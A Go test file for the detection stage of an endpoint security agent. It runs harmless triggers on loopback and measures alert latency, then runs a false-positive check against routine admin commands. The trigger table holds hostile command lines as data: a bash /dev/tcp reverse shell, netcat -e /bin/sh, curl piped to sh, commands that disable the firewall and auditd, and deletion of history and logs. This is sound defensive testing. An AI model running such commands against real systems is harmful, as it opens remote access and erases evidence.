package detect_test

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/edgesec/edgesec"
	"github.com/edgesec/edgesec/collector/kernel"
	"github.com/edgesec/edgesec/collector/process"
	"github.com/edgesec/edgesec/detect"
	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/stage"
	"github.com/edgesec/edgesec/transport"
	"github.com/edgesec/edgesec/twinconfig"
)

type discard struct{}

func (discard) Send(context.Context, transport.Message) error { return nil }
func (discard) Close(context.Context) error                   { return nil }

// seen records the alerts leaving the detect stage, with the time they did.
type seen struct {
	mu     sync.Mutex
	alerts []timedAlert
}

type timedAlert struct {
	at time.Time
	a  *event.SecurityAlertPayload
	ev event.Event
}

func (s *seen) stage() stage.Stage {
	return stage.Func{StageName: "record", F: func(_ context.Context, ev *event.Event, _ stage.Emit) error {
		if ev.Name == event.SecurityAlert {
			now := time.Now()
			s.mu.Lock()
			for _, it := range ev.Payload {
				if a, ok := it.(*event.SecurityAlertPayload); ok {
					s.alerts = append(s.alerts, timedAlert{now, a, *ev})
				}
			}
			s.mu.Unlock()
		}
		return nil
	}}
}

// wait returns the first alert of rule whose command line contains marker
// recorded after from.
func (s *seen) wait(rule, marker string, from time.Time, d time.Duration) (timedAlert, bool) {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		s.mu.Lock()
		for _, x := range s.alerts {
			if x.a.AlertType == rule && x.at.After(from) && strings.Contains(x.a.CommandLine, marker) {
				s.mu.Unlock()
				return x, true
			}
		}
		s.mu.Unlock()
		time.Sleep(10 * time.Millisecond)
	}
	return timedAlert{}, false
}

// TestScenarios really runs the triggers of a handful of rules on this
// machine (copied benign binaries, loopback, a throwaway network namespace)
// with the real process collector, the engine and the detect stage, and
// measures the latency from the exec to the alert leaving the stage.
// It needs root (the kernel's process connector).
func TestScenarios(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: the process collector's netlink proc connector")
	}
	dir := t.TempDir()
	cp := func(name string) string {
		p := filepath.Join(dir, name)
		b, err := os.ReadFile("/bin/true")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, b, 0o755); err != nil {
			t.Fatal(err)
		}
		return p
	}
	hist := filepath.Join(dir, ".bash_history")
	logf := "/var/log/edgesec-scenario-" + filepath.Base(dir) + ".log"
	scenarios := []struct {
		rule   string
		argv   []string
		marker string // in the alert's command line
		setup  func()
	}{
		{detect.RuleCryptoMiner, []string{cp("cpuminer-multi"), "-o", "stratum+tcp://127.0.0.1:1"}, "stratum+tcp://127.0.0.1:1", nil},
		{detect.RuleCryptoMiner, []string{"sh", "-c", "echo cpuminer-multi " + dir + " >/dev/null"}, "cpuminer-multi " + dir, nil},
		{detect.RuleReverseShell, []string{"timeout", "2", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # " + dir}, "/dev/tcp/127.0.0.1/9", nil},
		{detect.RuleNetcatRCE, []string{cp("nc"), "-e", "/bin/sh", "127.0.0.1", "9"}, "-e /bin/sh 127.0.0.1 9", nil},
		{detect.RuleDisableFirewall, []string{"unshare", "-n", "iptables", "-P", "INPUT", "ACCEPT"}, "iptables -P INPUT ACCEPT", nil},
		{detect.RuleDisableAuditd, []string{cp("auditctl"), "-e", "0"}, "auditctl -e 0", nil},
		{detect.RuleDownloadThenRun, []string{"sh", "-c", "curl -s -m 1 http://127.0.0.1:1/" + filepath.Base(dir) + ".sh | sh"}, filepath.Base(dir) + ".sh | sh", nil},
		{detect.RuleBinaryCommandLine, []string{"sh", "-c", `printf '\x7fELF\x02\x01' >/dev/null # ` + dir}, `\x7fELF`, nil},
		{detect.RuleClearHistoryFile, []string{"rm", "-f", hist}, hist, func() { _ = os.WriteFile(hist, []byte("ls\n"), 0o600) }},
		{detect.RuleRemovalOfSystemLogs, []string{"rm", "-f", logf}, logf, func() { _ = os.WriteFile(logf, []byte("x\n"), 0o600) }},
		{detect.RulePortForwarding, []string{cp("ssh"), "-N", "-R", "8080:localhost:22", "nobody@203.0.113.10"}, "nobody@203.0.113.10", nil},
	}
	t.Cleanup(func() { _ = os.Remove(logf) })

	rec := &seen{}
	ds, err := detect.New(detect.Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	cfg, probs, err := twinconfig.Decode([]byte(`{"highPriorityMessageFrequency":{"value":"PT1S"},"lowPriorityMessageFrequency":{"value":"PT2S"}}`))
	if err != nil || len(probs) > 0 {
		t.Fatal(err, probs)
	}
	e := edgesec.New(edgesec.Options{AgentVersion: "test", Transport: discard{}, Config: &cfg, ConfigWait: -1, FirstMessageDelay: -1,
		Stages: []stage.Stage{ds, rec.stage()}})
	pc := process.New(process.Options{Mode: process.ModeNetlink})
	e.AddCollector(pc)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.Run(ctx) }()
	defer func() {
		cancel()
		<-done
	}()
	// Wait for the collector: a marker process must arrive.
	ready := false
	for i := 0; i < 100 && !ready; i++ {
		_ = exec.Command("sh", "-c", "echo xmrig-ready-"+filepath.Base(dir)+" >/dev/null").Run()
		_, ready = rec.wait(detect.RuleCryptoMiner, "xmrig-ready-"+filepath.Base(dir), time.Time{}, 100*time.Millisecond)
	}
	if !ready {
		t.Skip("the process collector delivers no event (no proc connector in this environment?)")
	}

	var lat []time.Duration
	var rows []string
	for _, sc := range scenarios {
		if sc.setup != nil {
			sc.setup()
		}
		// A binary that exits within microseconds can be gone before the
		// collector reads its command line (a loaded machine): up to three
		// attempts, counted in the table.
		var got timedAlert
		var start time.Time
		ok := false
		attempt := 0
		for attempt < 3 && !ok {
			attempt++
			start = time.Now()
			cmd := exec.Command(sc.argv[0], sc.argv[1:]...)
			if err := cmd.Run(); err != nil {
				t.Logf("%s: %v (fine: the exec is what is detected)", sc.argv[0], err)
			}
			got, ok = rec.wait(sc.rule, sc.marker, start.Add(-time.Millisecond), 3*time.Second)
		}
		if !ok {
			t.Errorf("%s: no alert for %q in 3 attempts", sc.rule, strings.Join(sc.argv, " "))
			rows = append(rows, fmt.Sprintf("| %s | `%s` | no | - |", sc.rule, strings.Join(sc.argv, " ")))
			continue
		}
		if attempt > 1 {
			t.Logf("%s: detected on attempt %d", sc.rule, attempt)
		}
		d := got.at.Sub(start)
		lat = append(lat, d)
		rows = append(rows, fmt.Sprintf("| %s | `%s` | yes (attempt %d) | %.1f |", sc.rule, strings.ReplaceAll(strings.Join(sc.argv, " "), dir, "$T"), attempt, float64(d.Microseconds())/1000))
	}
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	if len(lat) > 0 {
		t.Logf("latency exec → alert over %d scenarios: p50 %s, max %s", len(lat), lat[len(lat)/2], lat[len(lat)-1])
	}
	// Alerts raised meanwhile by whatever else runs on the host (other
	// builds and tests): reported, not failed on.
	rec.mu.Lock()
	other := map[string]int{}
	for _, x := range rec.alerts {
		if !strings.Contains(x.a.CommandLine, filepath.Base(dir)) && !strings.Contains(x.a.CommandLine, "203.0.113.10") &&
			!strings.Contains(x.a.CommandLine, "127.0.0.1/9") && !strings.Contains(x.a.CommandLine, "stratum+tcp://127.0.0.1:1") &&
			!strings.Contains(x.a.CommandLine, "iptables -P INPUT ACCEPT") && !strings.Contains(x.a.CommandLine, "auditctl -e 0") {
			other[x.a.Severity+" "+x.a.AlertType]++
			t.Logf("other alert: %s %s: %s", x.a.Severity, x.a.AlertType, x.a.Description)
		}
	}
	rec.mu.Unlock()
	t.Logf("alerts from other host activity during the run: %v", other)
	if out := os.Getenv("EDGESEC_SCENARIO_OUT"); out != "" {
		s := "| rule | trigger | detected | exec → alert (ms) |\n|---|---|---|---|\n" + strings.Join(rows, "\n") + "\n"
		if len(lat) > 0 {
			s += fmt.Sprintf("\np50 %.1f ms, max %.1f ms over %d scenarios; other alerts during the run: %v\n",
				float64(lat[len(lat)/2].Microseconds())/1000, float64(lat[len(lat)-1].Microseconds())/1000, len(lat), other)
		}
		if err := os.WriteFile(out, []byte(s), 0o644); err != nil {
			t.Error(err)
		}
		// The alerts as messages, for docs and "edgesec alerts".
		var msgs []byte
		rec.mu.Lock()
		for _, x := range rec.alerts {
			env := event.Envelope{AgentVersion: "scenario", AgentID: "2f1ae4a0-6c1b-4f57-9a58-0d3f1c9e7b21", Events: []event.Event{x.ev}}
			msgs = append(env.AppendJSON(msgs), '\n')
		}
		rec.mu.Unlock()
		if err := os.WriteFile(out+".messages.json", msgs, 0o644); err != nil {
			t.Error(err)
		}
	}
	st := ds.Stats()
	t.Logf("detect stats: %+v", st)
}

// TestBenignWorkload (opt-in: EDGESEC_BENIGN=seconds, root) runs the real
// process collector (the eBPF kernel source with its system call activity
// when EDGESEC_BENIGN_KERNEL is set), the engine and the detect stage while ordinary admin
// commands run, for the given number of seconds, and reports every alert
// it sees — including those caused by whatever else runs on the host
// (builds, test suites, containers). It fails on a High alert raised by
// the admin commands it runs itself.
func TestBenignWorkload(t *testing.T) {
	secs := os.Getenv("EDGESEC_BENIGN")
	if secs == "" || os.Geteuid() != 0 {
		t.Skip("opt-in: EDGESEC_BENIGN=<seconds>, as root")
	}
	d, err := time.ParseDuration(secs + "s")
	if err != nil {
		t.Fatal(err)
	}
	rec := &seen{}
	ds, err := detect.New(detect.Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	cfg := twinconfig.Default()
	e := edgesec.New(edgesec.Options{AgentVersion: "test", Transport: discard{}, Config: &cfg, ConfigWait: -1, FirstMessageDelay: -1,
		Stages: []stage.Stage{ds, rec.stage()}})
	if os.Getenv("EDGESEC_BENIGN_KERNEL") != "" {
		kc, err := kernel.New(kernel.Options{Activity: true, Connections: true})
		if err != nil {
			t.Fatalf("EDGESEC_BENIGN_KERNEL: %v", err)
		}
		defer kc.Close()
		e.AddCollector(kc)
	} else {
		e.AddCollector(process.New(process.Options{Mode: process.ModeNetlink}))
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.Run(ctx) }()
	admin := [][]string{{"ps", "aux"}, {"ip", "addr"}, {"df", "-h"}, {"systemctl", "list-timers", "--no-pager"}, {"apt-get", "-s", "upgrade"},
		{"apt-cache", "policy", "bash"}, {"dpkg", "-l", "bash"}, {"journalctl", "-n", "20", "--no-pager"}, {"iptables", "-L", "-n"},
		{"ss", "-tlnp"}, {"uname", "-a"}, {"id"}, {"bash", "-c", "for f in /etc/hostname /etc/os-release; do cat $f; done"},
		{"find", "/etc", "-maxdepth", "1", "-name", "*.conf"}, {"tar", "czf", "/dev/null", "/etc/hostname"}, {"curl", "-s", "-m", "1", "-o", "/dev/null", "http://127.0.0.1:1/"},
		{"docker", "ps"}, {"sh", "-c", "ls /var/log | wc -l"}}
	deadline := time.Now().Add(d)
	runs := 0
	for time.Now().Before(deadline) {
		for _, a := range admin {
			_ = exec.Command(a[0], a[1:]...).Run()
			runs++
		}
		time.Sleep(time.Second)
	}
	time.Sleep(time.Second)
	cancel()
	<-done
	bySev := map[string]map[string]int{}
	rec.mu.Lock()
	for _, x := range rec.alerts {
		if bySev[x.a.Severity] == nil {
			bySev[x.a.Severity] = map[string]int{}
		}
		bySev[x.a.Severity][x.a.AlertType]++
		t.Logf("alert %s %s: %s (cmd %q)", x.a.Severity, x.a.AlertType, x.a.Description, x.a.CommandLine)
		for _, a := range admin {
			if x.a.Severity == event.AlertHigh && strings.HasPrefix(x.a.CommandLine, strings.Join(a, " ")) {
				t.Errorf("High alert on an admin command: %s", x.a.Description)
			}
		}
	}
	rec.mu.Unlock()
	st := ds.Stats()
	t.Logf("%s: %d admin commands, %d events analysed, alerts by severity: %v", d, runs, st.Events, bySev)
}
